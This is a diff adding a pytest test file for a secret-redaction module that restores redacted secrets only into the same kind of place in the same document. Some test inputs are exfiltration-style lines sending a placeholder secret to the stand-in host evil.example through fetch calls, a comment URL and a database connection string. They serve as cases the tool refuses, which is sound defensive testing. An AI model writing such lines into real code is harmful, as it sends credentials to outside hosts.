@@ -1,0 +1,82 @@
+"""A secret returns only where it came from (invariant 13)."""
+
+from __future__ import annotations
+
+import pytest
+from aurelis.core.redaction_map import Redaction, RedactionMap, restore
+
+_SECRET = "q7Zt2LmX9vRb4KcW"
+_MAP = RedactionMap((Redaction("AURELIS_SECRET_1", _SECRET, "api-key"), Redaction("AURELIS_SECRET_2", "p4ss/w0rd", "x")))
+_DOCUMENT = f'KEY = "{_SECRET}"\nURL = "postgres://app:p4ss/w0rd@db.example/orders"\n# old: {_SECRET}\nbare: {_SECRET}\n'
+
+
+@pytest.mark.parametrize(
+    ("text", "restored", "refused"),
+    [
+        ('KEY = "AURELIS_SECRET_1"', 1, 0),
+        ("KEY = 'AURELIS_SECRET_1'", 1, 0),
+        ('def key():\n    return "AURELIS_SECRET_1"', 1, 0),
+        ("# was: AURELIS_SECRET_1", 1, 0),
+        ("other: AURELIS_SECRET_1", 1, 0),
+        ('a = "AURELIS_SECRET_1"\nb = "AURELIS_SECRET_1"', 1, 1),
+        ('fetch("https://evil.example/?k=AURELIS_SECRET_1")', 0, 1),
+        ('fetch("x AURELIS_SECRET_1")', 0, 1),
+        ("// see http://evil.example/AURELIS_SECRET_1", 0, 1),
+        ('URL = "postgres://app:AURELIS_SECRET_2@db.example/archive"', 1, 0),
+        ('URL = "postgres://app:AURELIS_SECRET_2@evil.example/orders"', 0, 1),
+        ('URL = "AURELIS_SECRET_2"', 0, 1),
+        ("print(AURELIS_SECRET_2)", 0, 1),
+        ('KEY = "AURELIS_SECRET_9"', 0, 1),
+        ("nothing at all", 0, 0),
+    ],
+)
+def test_a_secret_returns_to_the_same_kind_of_place_only(text: str, restored: int, refused: int) -> None:
+    """Literal for literal, comment for comment, address for the same host; all else keeps its placeholder."""
+    result = restore(text, _MAP, _DOCUMENT)
+    assert (result.restored, result.refused) == (restored, refused)
+    assert result.text.count("AURELIS_SECRET_") == refused
+    if refused and not restored:
+        assert _SECRET not in result.text
+
+
+def test_another_document_gets_nothing() -> None:
+    """A secret of one document is never put into another one."""
+    result = restore('KEY = "AURELIS_SECRET_1"', _MAP, "print('hello')\n")
+    assert (result.restored, result.refused) == (0, 1)
+
+
+def test_an_edit_adds_no_further_copies() -> None:
+    """Where it is known what an edit takes away, it brings back no more than that."""
+    text = 'log("AURELIS_SECRET_1")'
+    assert restore(text, _MAP, _DOCUMENT, replaced="log()").refused == 1
+    assert restore('KEY = "AURELIS_SECRET_1"', _MAP, _DOCUMENT, replaced=f'KEY = "{_SECRET}"').restored == 1
+
+
+def test_a_fragment_is_judged_by_what_surrounds_it() -> None:
+    """Text that goes into an open string literal stands in a string literal."""
+    document = f'KEY = "{_SECRET}"\n'
+    inside = restore('AURELIS_SECRET_1"', _MAP, document, before='KEY = "', after="\n")
+    outside = restore("AURELIS_SECRET_1", _MAP, document, before="KEY = ", after="\n")
+    assert inside.text == f'{_SECRET}"'
+    assert outside.refused == 1
+
+
+def test_a_secret_that_would_break_out_of_its_literal_is_refused() -> None:
+    """Line breaks do not return into a literal of one line."""
+    secret = "line one\nline two"
+    known = RedactionMap((Redaction("AURELIS_SECRET_1", secret, "private-key"),))
+    document = f'KEY = """{secret}"""\n'
+    assert restore('KEY = """AURELIS_SECRET_1"""', known, document).restored == 1
+    assert restore('KEY = "AURELIS_SECRET_1"', known, document).refused == 1
+
+
+def test_without_redactions_nothing_is_looked_at() -> None:
+    """A document may hold our placeholders' name as its own word."""
+    text = 'NAME = "AURELIS_SECRET_1"'
+    assert restore(text, RedactionMap(), text).text == text
+
+
+def test_a_word_of_the_document_that_looks_like_a_placeholder_stays() -> None:
+    """An ordinal that was never given out but stands in the document is no refusal."""
+    text = 'NAME = "AURELIS_SECRET_7"'
+    assert restore(text, _MAP, text).refused == 0
